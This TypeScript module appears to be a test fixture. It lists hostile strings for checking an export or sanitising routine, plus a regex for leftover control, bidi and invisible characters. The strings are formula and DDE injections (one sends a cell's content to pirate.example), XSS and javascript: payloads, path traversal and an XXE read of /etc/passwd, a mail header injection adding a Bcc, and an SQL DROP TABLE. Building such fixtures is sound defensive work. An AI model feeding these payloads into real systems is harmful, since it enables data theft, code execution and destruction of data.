/** Texts that some program or other takes for more than a text; each says in its key what for. */
export const HOSTILE_TEXTS = {
  formula: '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")',
  wideFormula: '＝1+1',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3+cmd|x',
  at: '@SUM(1+1)',
  commas: 'a,=1+1,"=2',
  apostrophe: "'=1+1",
  html: '<img src=x onerror="window.broken=1">',
  script: '</title><script>window.broken=1</script>',
  svg: '<svg/onload=window.broken=1><style>*{display:none}</style>',
  address: 'javascript:window.broken=1',
  path: '../../../etc/passwd',
  windowsPath: 'C:\\Windows\\System32\\CON',
  share: '\\\\pirate.example\\partage',
  device: 'NUL',
  dots: 'fin.. .',
  terminal: '\u001b]0;titre\u0007\u001b[31mRouge\u009b1m',
  direction: 'Facture\u202efdp.exe',
  invisible: 'Du\u200br\u2060and\ufeff',
  half: 'Moitié \ud83d',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what it looks like.
  format: '%s%n%x {0} ${x} {{client}} **gras**',
  separators: 'a;b\t"c" d,e|f',
  entities: '&lt;b&gt; &amp; &xxe; <!ENTITY x SYSTEM "file:///etc/passwd">]]>',
  pdf: '(Tj) ET Q endstream endobj << /JavaScript >> \\',
  mail: 'Durand\r\nBcc: pirate@pirate.example\r\n\r\ncorps',
  calendar: 'Durand\r\nEND:VEVENT\r\nBEGIN:VALARM\\n;,',
  prototype: '__proto__',
  constructor: 'constructor',
  sql: "Robert'); DROP TABLE customers;--",
  excelEscape: '_x0041_ _x000D_',
  emoji: '🧾 Ünïcode 株式会社',
  zero: '\u0000Du\u0000pont',
} as const;

/** What of them must be left nowhere: commands of terminals, marks of direction, invisible characters, halves. Tabs and line ends may stay. */
export const LEFT_OVER = /[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]|(?![\t\n\r])\p{Cc}|\p{Cs}/u;
